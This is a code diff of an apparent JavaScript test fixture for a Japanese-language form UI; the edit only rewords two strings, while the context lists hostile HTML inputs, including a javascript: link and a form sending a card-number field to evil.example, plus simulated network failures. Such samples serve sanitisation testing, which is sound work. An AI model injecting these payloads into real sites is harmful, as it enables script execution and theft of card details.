@@ -6,13 +6,13 @@ const hostile = [
   '<a href="javascript:document.title=\'hacked\'">リンク</a>',
   '<form action="https://evil.example/"><input name="cardNum"><button>送信</button></form>',
 ];
-const messages = ['受け付けできませんでした。', '詳しくは<a href="/contact/">お問い合わせ</a>ください。'];
+const messages = ['受け付けられませんでした。', '詳しくは<a href="/contact/">お問い合わせ</a>ください。'];
 const manyMessages = Array.from({ length: 1000 }, (_, index) => `メッセージ ${index + 1}`);
 const refusal = (told) => ({ body: { success: false, messages: told } });
 
 const network = {
   '遅い（5秒）': { delayMs: 5000 },
-  'とても遅い（30秒）': { delayMs: 30_000 },
+  '非常に遅い（30秒）': { delayMs: 30_000 },
   応答しない: { delayMs: 3_600_000 },
   処理の前に切断: { drop: 'before' },
   ...Object.fromEntries([400, 401, 403, 404, 429, 500].map((status) => [`HTTP ${status}`, { status }])),
